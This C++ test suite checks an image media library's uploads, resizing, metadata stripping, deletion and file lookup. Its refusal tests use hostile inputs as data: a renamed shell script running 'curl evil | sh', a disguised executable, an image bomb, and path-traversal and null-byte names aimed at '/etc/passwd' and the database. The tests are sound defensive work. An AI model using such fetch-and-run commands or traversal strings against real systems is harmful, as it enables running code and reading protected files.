// MediaLibrary end to end over a real SQLite file and a temporary media directory.
#include "gazette/media/media_library.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmath>
#include <fstream>
#include <iterator>

#include "gazette/media/media_naming.hpp"
#include "gazette/storage/sqlite/sqlite_storage.hpp"
#include "support/temp_dir.hpp"
#include "test_images.hpp"

namespace gazette::media {
namespace {

namespace fs = std::filesystem;
using test::MakeImage;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

const Timestamp kNow = TimestampFromUnix(1767355200);

std::string ReadFile(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

class MediaLibraryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto storage = storage::OpenSqliteStorage(dir_ / "gazette.db", storage::SqliteOpenMode::kCreate);
    ASSERT_TRUE(storage.ok()) << storage.error().message;
    storage_ = std::move(storage).value();
    OpenLibrary(MediaLimits{});
  }

  void OpenLibrary(const MediaLimits& limits) {
    auto library = MediaLibrary::Open(storage_->media(), media_dir(), limits);
    ASSERT_TRUE(library.ok()) << library.error().message;
    library_ = std::move(library).value();
  }

  fs::path media_dir() const { return dir_ / "media"; }

  /// Every file under the media directory, temporary ones included.
  std::vector<fs::path> FilesOnDisk() const {
    std::vector<fs::path> files;
    for (const auto& entry : fs::recursive_directory_iterator(media_dir())) {
      if (!entry.is_directory()) files.push_back(entry.path());
    }
    std::sort(files.begin(), files.end());
    return files;
  }

  std::vector<domain::MediaItem> Listed() {
    auto items = storage_->media().List(0, 100);
    EXPECT_TRUE(items.ok());
    return items.ok() ? *items : std::vector<domain::MediaItem>{};
  }

  domain::MediaItem Upload(std::string_view bytes, std::string_view name = "photo") {
    auto item = library_->Upload(bytes, name, 42, kNow);
    EXPECT_TRUE(item.ok()) << item.error().message;
    return item.ok() ? *item : domain::MediaItem{};
  }

  void ExpectRefusedWithNothingStored(const Result<domain::MediaItem>& upload,
                                      std::string_view message_part) {
    ASSERT_FALSE(upload.ok());
    EXPECT_EQ(upload.error().code, ErrorCode::kInvalid);
    EXPECT_THAT(upload.error().message, HasSubstr(message_part));
    EXPECT_THAT(FilesOnDisk(), IsEmpty());
    EXPECT_THAT(Listed(), IsEmpty());
  }

  gazette::testing::TempDir dir_;
  std::unique_ptr<storage::Storage> storage_;
  std::unique_ptr<MediaLibrary> library_;
};

class EachTypeTest : public MediaLibraryTest, public ::testing::WithParamInterface<ImageType> {};

TEST_P(EachTypeTest, StoresTheOriginalByHashAndMakesEachSmallerWidth) {
  const ImageType type = GetParam();
  const std::string bytes = MakeImage(type, 1500, 1000);
  const domain::MediaItem item = Upload(bytes, "holiday photo");

  EXPECT_GT(item.id, 0);
  EXPECT_EQ(item.sha256.size(), 64u);
  EXPECT_EQ(item.mime, MimeOf(type));
  EXPECT_EQ(item.width, 1500);
  EXPECT_EQ(item.height, 1000);
  EXPECT_EQ(item.bytes, static_cast<std::int64_t>(bytes.size()));
  EXPECT_THAT(item.sizes, ElementsAre(320, 640, 1280));
  EXPECT_EQ(item.uploaded_by, 42);
  EXPECT_EQ(item.uploaded_at, kNow);
  EXPECT_EQ(item.original_name, "holiday photo");

  const fs::path original =
      media_dir() / item.sha256.substr(0, 2) / (item.sha256 + "." + std::string(ExtensionOf(type)));
  EXPECT_EQ(ReadFile(original), bytes);
  for (int width : {320, 640, 1280}) {
    const fs::path copy = media_dir() / PublicName(item.sha256, width, type);
    const std::string copy_bytes = ReadFile(copy);
    ASSERT_FALSE(copy_bytes.empty()) << copy;
    EXPECT_EQ(*DetectImageType(copy_bytes), type) << "a copy keeps its original's format";
    const test::Decoded decoded = test::Decode(copy_bytes);
    EXPECT_EQ(decoded.width, width);
    EXPECT_EQ(decoded.height, std::lround(width * 2 / 3.0));
  }
  EXPECT_EQ(FilesOnDisk().size(), 4u);

  auto stored = storage_->media().FindById(item.id);
  ASSERT_TRUE(stored.ok());
  EXPECT_EQ(stored->sha256, item.sha256);
  EXPECT_THAT(stored->sizes, ElementsAre(320, 640, 1280));
}

INSTANTIATE_TEST_SUITE_P(Types, EachTypeTest,
                         ::testing::Values(ImageType::kJpeg, ImageType::kPng, ImageType::kGif,
                                           ImageType::kWebp),
                         [](const ::testing::TestParamInfo<ImageType>& param) {
                           return std::string(ExtensionOf(param.param));
                         });

TEST_F(MediaLibraryTest, TheSameBytesTwiceAreOneItem) {
  const std::string bytes = MakeImage(ImageType::kJpeg, 700, 500);
  const domain::MediaItem first = Upload(bytes, "first.jpg");
  const auto files = FilesOnDisk();
  auto second = library_->Upload(bytes, "second.jpg", 7, kNow + std::chrono::seconds(60));
  ASSERT_TRUE(second.ok()) << second.error().message;
  EXPECT_EQ(second->id, first.id);
  EXPECT_EQ(second->original_name, "first.jpg");
  EXPECT_EQ(second->uploaded_by, 42);
  EXPECT_EQ(FilesOnDisk(), files);
  EXPECT_EQ(Listed().size(), 1u);
}

TEST_F(MediaLibraryTest, NeverEnlargesASmallImage) {
  const domain::MediaItem small = Upload(MakeImage(ImageType::kPng, 200, 100));
  EXPECT_THAT(small.sizes, IsEmpty());
  const domain::MediaItem medium = Upload(MakeImage(ImageType::kPng, 640, 100));
  EXPECT_THAT(medium.sizes, ElementsAre(320)) << "the original already serves 640";
  EXPECT_EQ(FilesOnDisk().size(), 3u);
}

TEST_F(MediaLibraryTest, ScalesAPhotoStoredSidewaysUprightAndStripsItsMetadata) {
  // Stored 800 x 400 with orientation 6: displayed 400 x 800.
  const domain::MediaItem item = Upload(test::MakeRotatedJpeg(800, 400, 6));
  EXPECT_EQ(item.width, 400);
  EXPECT_EQ(item.height, 800);
  ASSERT_THAT(item.sizes, ElementsAre(320));
  const test::Decoded copy =
      test::Decode(ReadFile(media_dir() / PublicName(item.sha256, 320, ImageType::kJpeg)));
  EXPECT_EQ(copy.width, 320);
  EXPECT_EQ(copy.height, 640);
  EXPECT_FALSE(copy.has_exif);
  EXPECT_FALSE(copy.has_orientation);
  EXPECT_TRUE(test::Decode(test::MakeRotatedJpeg(800, 400, 6)).has_orientation) << "the test image had it";
}

TEST_F(MediaLibraryTest, LeavesAnimationsUnresized) {
  for (ImageType type : {ImageType::kGif, ImageType::kWebp}) {
    const domain::MediaItem item = Upload(test::MakeAnimation(type, 700, 400, 3));
    EXPECT_EQ(item.width, 700);
    EXPECT_EQ(item.height, 400);
    EXPECT_THAT(item.sizes, IsEmpty()) << MimeOf(type);
  }
  EXPECT_EQ(FilesOnDisk().size(), 2u);
}

TEST_F(MediaLibraryTest, RefusesARenamedShellScript) {
  ExpectRefusedWithNothingStored(library_->Upload("#!/bin/sh\ncurl evil | sh\n", "photo.jpg", 42, kNow),
                                 "JPEG, PNG, GIF or WebP");
}

TEST_F(MediaLibraryTest, RefusesAnExecutableNamedLikeAJpeg) {
  std::string elf =
      "\x7F"
      "ELF\x02\x01\x01";
  elf += std::string(200, '\0');
  ExpectRefusedWithNothingStored(library_->Upload(elf, "photo.jpg", 42, kNow), "JPEG, PNG, GIF or WebP");
}

TEST_F(MediaLibraryTest, RefusesAnImageBombBeforeDecoding) {
  ExpectRefusedWithNothingStored(library_->Upload(test::PngDeclaring(100'000, 100'000), "bomb.png", 42, kNow),
                                 "100000 x 100000 pixels");
}

TEST_F(MediaLibraryTest, RefusesATruncatedJpegAndLeavesNoFiles) {
  const std::string jpeg = MakeImage(ImageType::kJpeg, 1500, 1000);
  ExpectRefusedWithNothingStored(library_->Upload(jpeg.substr(0, jpeg.size() * 2 / 3), "cut.jpg", 42, kNow),
                                 "damaged or incomplete");
}

TEST_F(MediaLibraryTest, RefusesEmptyAndOversizedUploads) {
  ExpectRefusedWithNothingStored(library_->Upload("", "empty.jpg", 42, kNow), "empty");
  const std::string png = MakeImage(ImageType::kPng, 100, 100);
  MediaLimits limits;
  limits.max_bytes = png.size() - 1;
  OpenLibrary(limits);
  ExpectRefusedWithNothingStored(library_->Upload(png, "big.png", 42, kNow), "larger than");
}

TEST_F(MediaLibraryTest, KeepsTheUploadedNameOnlyForDisplay) {
  const domain::MediaItem item = Upload(MakeImage(ImageType::kGif, 50, 50), "../../etc/passwd\n.gif");
  EXPECT_EQ(item.original_name, "passwd.gif");
  const std::vector<fs::path> files = FilesOnDisk();
  ASSERT_EQ(files.size(), 1u);
  EXPECT_EQ(files[0], media_dir() / PublicName(item.sha256, std::nullopt, ImageType::kGif));
  EXPECT_FALSE(fs::exists(dir_ / "etc"));
}

TEST_F(MediaLibraryTest, WritesReadableFilesAndDirectoriesWhateverTheUmask) {
  const mode_t previous = ::umask(077);
  const domain::MediaItem item = Upload(MakeImage(ImageType::kJpeg, 400, 300));
  ::umask(previous);
  for (const fs::path& file : FilesOnDisk()) {
    EXPECT_EQ(fs::status(file).permissions(), fs::perms(0644)) << file;
  }
  EXPECT_EQ(fs::status(media_dir() / item.sha256.substr(0, 2)).permissions(), fs::perms(0755));
  for (const fs::path& file : FilesOnDisk()) {
    EXPECT_NE(file.filename().string().front(), '.') << "no temporary file is left: " << file;
  }
}

TEST_F(MediaLibraryTest, CreatesItsDirectoryWithReadableModes) {
  EXPECT_EQ(fs::status(media_dir()).permissions(), fs::perms(0755));
}

TEST_F(MediaLibraryTest, FileForMapsPublicNamesToStoredFiles) {
  const domain::MediaItem item = Upload(MakeImage(ImageType::kWebp, 700, 350));
  const std::string original = PublicName(item.sha256, std::nullopt, ImageType::kWebp);
  const std::string copy = PublicName(item.sha256, 640, ImageType::kWebp);
  auto original_path = library_->FileFor(original);
  ASSERT_TRUE(original_path.ok()) << original_path.error().message;
  EXPECT_EQ(*original_path, media_dir() / original);
  auto copy_path = library_->FileFor(copy);
  ASSERT_TRUE(copy_path.ok());
  EXPECT_EQ(*copy_path, media_dir() / copy);
}

TEST_F(MediaLibraryTest, FileForRefusesEverythingButExactStoredNames) {
  const domain::MediaItem item = Upload(MakeImage(ImageType::kJpeg, 700, 350));
  const std::string h = item.sha256;
  const std::string d = h.substr(0, 2);
  std::string upper = h;
  std::transform(upper.begin(), upper.end(), upper.begin(),
                 [](char c) { return static_cast<char>(std::toupper(c)); });
  // Something a climb out of the media directory could reach.
  std::ofstream(dir_ / "secret.jpg") << "secret";

  const std::string refused[] = {
      "../secret.jpg",
      "../gazette.db",
      d + "/../../secret.jpg",
      d + "/../" + d + "/" + h + ".jpg",
      "/etc/passwd",
      (media_dir() / PublicName(h, std::nullopt, ImageType::kJpeg)).string(),  // absolute
      "/" + d + "/" + h + ".jpg",
      upper.substr(0, 2) + "/" + upper + ".jpg",
      d + "/" + upper + ".jpg",
      d + "/" + h + "-1000.jpg",  // not a known width
      d + "/" + h + "-1280.jpg",  // a known width that was not made (the image is 700 wide)
      d + "/" + h + ".png",       // another type than stored
      d + "/" + h + ".jpg" + std::string("\0", 1),
      d + "/" + h + std::string("\0", 1) + ".jpg",
      std::string("\0", 1) + d + "/" + h + ".jpg",
      d + "/" + h + ".jpg/.",
      "",
      d,
      d + "/",
  };
  for (const std::string& name : refused) {
    auto path = library_->FileFor(name);
    ASSERT_FALSE(path.ok()) << "served: " << name << " as " << *path;
    EXPECT_EQ(path.error().code, ErrorCode::kNotFound);
  }
}

TEST_F(MediaLibraryTest, FileForRefusesALinkInPlaceOfAFile) {
  const std::string hash = std::string(64, 'e');
  fs::create_directories(media_dir() / "ee");
  std::ofstream(dir_ / "secret.jpg") << "secret";
  fs::create_symlink(dir_ / "secret.jpg", media_dir() / "ee" / (hash + ".jpg"));
  EXPECT_FALSE(library_->FileFor("ee/" + hash + ".jpg").ok());
}

TEST_F(MediaLibraryTest, DeleteRemovesTheRowThenTheFiles) {
  const domain::MediaItem kept = Upload(MakeImage(ImageType::kPng, 100, 100));
  const domain::MediaItem item = Upload(MakeImage(ImageType::kJpeg, 900, 600));
  EXPECT_EQ(FilesOnDisk().size(), 4u);
  ASSERT_TRUE(library_->Delete(item.id).ok());
  EXPECT_EQ(storage_->media().FindById(item.id).error().code, ErrorCode::kNotFound);
  EXPECT_THAT(FilesOnDisk(),
              ElementsAre(media_dir() / PublicName(kept.sha256, std::nullopt, ImageType::kPng)));
  EXPECT_FALSE(library_->FileFor(PublicName(item.sha256, std::nullopt, ImageType::kJpeg)).ok());
  EXPECT_EQ(library_->Delete(item.id).error().code, ErrorCode::kNotFound);
}

TEST_F(MediaLibraryTest, AnImageDeletedAndUploadedAgainIsStoredAgain) {
  const std::string bytes = MakeImage(ImageType::kJpeg, 400, 300);
  const domain::MediaItem first = Upload(bytes);
  ASSERT_TRUE(library_->Delete(first.id).ok());
  const domain::MediaItem again = Upload(bytes);
  EXPECT_NE(again.id, first.id);
  EXPECT_TRUE(library_->FileFor(PublicName(again.sha256, 320, ImageType::kJpeg)).ok());
}

TEST_F(MediaLibraryTest, SetAltKeepsTheTextOnOneLine) {
  const domain::MediaItem item = Upload(MakeImage(ImageType::kJpeg, 100, 100));
  ASSERT_TRUE(library_->SetAlt(item.id, "Boats in the\nharbour ").ok());
  EXPECT_EQ(storage_->media().FindById(item.id)->alt, "Boats in the harbour");
  EXPECT_EQ(library_->SetAlt(item.id + 100, "x").error().code, ErrorCode::kNotFound);
  EXPECT_EQ(library_->SetAlt(item.id, std::string(storage::kMaxMediaAltBytes + 1, 'a')).error().code,
            ErrorCode::kInvalid);
}

TEST_F(MediaLibraryTest, OpenRefusesLimitsThatAreNotPositive) {
  MediaLimits limits;
  limits.max_pixels = 0;
  auto library = MediaLibrary::Open(storage_->media(), media_dir(), limits);
  ASSERT_FALSE(library.ok());
  EXPECT_EQ(library.error().code, ErrorCode::kInvalid);
}

TEST_F(MediaLibraryTest, OpenReportsADirectoryThatCannotBeMade) {
  std::ofstream(dir_ / "file") << "x";
  auto library = MediaLibrary::Open(storage_->media(), dir_ / "file" / "media", MediaLimits{});
  ASSERT_FALSE(library.ok());
  EXPECT_EQ(library.error().code, ErrorCode::kUnavailable);
  EXPECT_THAT(library.error().message, HasSubstr("media"));
}

}  // namespace
}  // namespace gazette::media
